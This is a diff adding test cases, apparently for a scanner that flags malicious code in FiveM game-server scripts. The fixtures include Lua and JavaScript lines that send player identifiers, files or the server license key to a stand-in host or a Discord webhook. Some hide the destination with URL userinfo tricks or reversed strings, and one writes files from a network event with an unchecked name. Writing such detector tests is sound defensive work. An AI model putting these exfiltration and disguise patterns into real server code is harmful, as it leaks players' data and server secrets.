@@ -178,6 +178,10 @@ end)`,
       js(`const request = require('https').request({ host: 'discord.com', path: '/api/webhooks/1/a' })
 ^request.end(require('fs').readFileSync(name))`),
       lua(`^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`),
+      lua(`local ids = GetPlayerIdentifiers(source)
+^PerformHttpRequest('https://raw.githubusercontent.com@a.example', print, 'POST', table.concat(ids))`),
+      lua(`local ids = GetPlayerIdentifiers(source)
+^PerformHttpRequest('https://ip-api.com:x@a.example', print, 'POST', table.concat(ids))`),
       lua(`local name = ('yeKesnecil_vs'):reverse()
 ^TriggerClientEvent('theme', -1, GetConvar(name, ''))`),
       lua(`local Proxy = module('vrp', 'lib/Proxy')
@@ -198,6 +202,12 @@ pool.query('SELECT 1', (rows) => emitNet('rows', -1, rows))`),
 PerformHttpRequest(Config.Webhook, print, 'POST', table.concat(ids))`),
       lua(`local ip = GetPlayerEndpoint(source)
 PerformHttpRequest('https://proxycheck.io/v2/' .. ip, print)`),
+      lua(`local function ask(url, body) PerformHttpRequest(url, print, 'POST', body) end
+ask('https://raw.githubusercontent.com/a/b/main/version')
+ask(Config.Url, table.concat(GetPlayerIdentifiers(source)))`),
+      lua(`RegisterNetEvent('save', function(name, text)
+  io.open('notes/' .. name .. '.txt', 'w'):write(text)
+end)`),
       lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
   PerformHttpRequest('https://a.example', print, 'POST', json.encode({ count = rows[1].count }))
 end)`),
